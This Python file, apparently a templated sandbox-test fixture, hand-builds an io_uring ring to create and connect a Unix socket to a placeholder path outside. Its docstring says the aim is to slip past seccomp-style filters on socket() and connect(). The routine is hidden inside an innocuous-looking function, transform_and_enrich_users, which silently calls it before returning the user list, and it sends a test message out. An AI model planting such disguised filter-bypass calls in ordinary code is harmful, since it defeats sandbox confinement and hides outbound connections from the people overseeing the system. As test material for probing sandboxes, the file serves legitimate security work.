"""Opens a unix socket and connects it to a named socket outside through io_uring
(IORING_OP_SOCKET, then IORING_OP_CONNECT): neither operation is a system call of its own,
so a filter of socket() and connect() never sees them."""

import ctypes
import mmap
import socket
import struct
import sys

NR_SETUP, NR_ENTER = 425, 426
OP_CONNECT, OP_SOCKET = 16, 45
OFF_SQ_RING, OFF_CQ_RING, OFF_SQES = 0, 0x8000000, 0x10000000
ENTER_GETEVENTS = 1


class Ring:
    def __init__(self, entries=4):
        self.libc = ctypes.CDLL(None, use_errno=True)
        self.libc.syscall.restype = ctypes.c_long
        params = ctypes.create_string_buffer(120)
        fd = self.libc.syscall(ctypes.c_long(NR_SETUP), ctypes.c_long(entries), params)
        if fd < 0:
            raise OSError(ctypes.get_errno(), "io_uring_setup refused")
        self.fd = fd
        fields = struct.unpack_from("=10I", params.raw, 0)
        sq_off = struct.unpack_from("=7I", params.raw, 40)
        cq_off = struct.unpack_from("=7I", params.raw, 80)
        self.sq_entries, cq_entries = fields[0], fields[1]
        self.sq_off, self.cq_off = sq_off, cq_off
        prot = mmap.PROT_READ | mmap.PROT_WRITE
        self.sq = mmap.mmap(fd, sq_off[6] + self.sq_entries * 4, mmap.MAP_SHARED, prot,
                            offset=OFF_SQ_RING)
        self.cq = mmap.mmap(fd, cq_off[5] + cq_entries * 16, mmap.MAP_SHARED, prot,
                            offset=OFF_CQ_RING)
        self.sqes = mmap.mmap(fd, self.sq_entries * 64, mmap.MAP_SHARED, prot, offset=OFF_SQES)

    def submit(self, opcode, fd, addr=0, length=0, off=0):
        """One operation, waited for; returns its result (a descriptor, 0, or -errno)."""
        mask = struct.unpack_from("=I", self.sq, self.sq_off[2])[0]
        tail = struct.unpack_from("=I", self.sq, self.sq_off[1])[0]
        index = tail & mask
        sqe = struct.pack("=BBHiQQIIQHHiQQ", opcode, 0, 0, fd, off, addr, length, 0, 7, 0, 0, 0, 0, 0)
        self.sqes[index * 64:index * 64 + 64] = sqe
        struct.pack_into("=I", self.sq, self.sq_off[6] + index * 4, index)
        struct.pack_into("=I", self.sq, self.sq_off[1], tail + 1)
        done = self.libc.syscall(ctypes.c_long(NR_ENTER), ctypes.c_long(self.fd), ctypes.c_long(1),
                                 ctypes.c_long(1), ctypes.c_long(ENTER_GETEVENTS), None,
                                 ctypes.c_long(0))
        if done < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter refused")
        head = struct.unpack_from("=I", self.cq, self.cq_off[0])[0]
        cq_mask = struct.unpack_from("=I", self.cq, self.cq_off[2])[0]
        _, result, _ = struct.unpack_from("=QiI", self.cq, self.cq_off[5] + (head & cq_mask) * 16)
        struct.pack_into("=I", self.cq, self.cq_off[0], head + 1)
        return result


def _connect_outside(path="{{UNIX_SOCKET}}"):
    try:
        ring = Ring()
        sock = ring.submit(OP_SOCKET, socket.AF_UNIX, off=socket.SOCK_STREAM)
        if sock < 0:
            raise OSError(-sock, "IORING_OP_SOCKET failed")
        address = ctypes.create_string_buffer(struct.pack("=H", socket.AF_UNIX) + path.encode(), 110)
        result = ring.submit(OP_CONNECT, sock, addr=ctypes.addressof(address), off=110)
        print("io_uring connect:", result, file=sys.stderr)
        if result == 0:
            socket.socket(fileno=sock).sendall(b"hello from io_uring")
    except BaseException as exc:
        print("io_uring refused:", type(exc).__name__, exc, file=sys.stderr)


def transform_and_enrich_users(user_list):
    _connect_outside()
    return [dict(user) for user in user_list if isinstance(user, dict)]
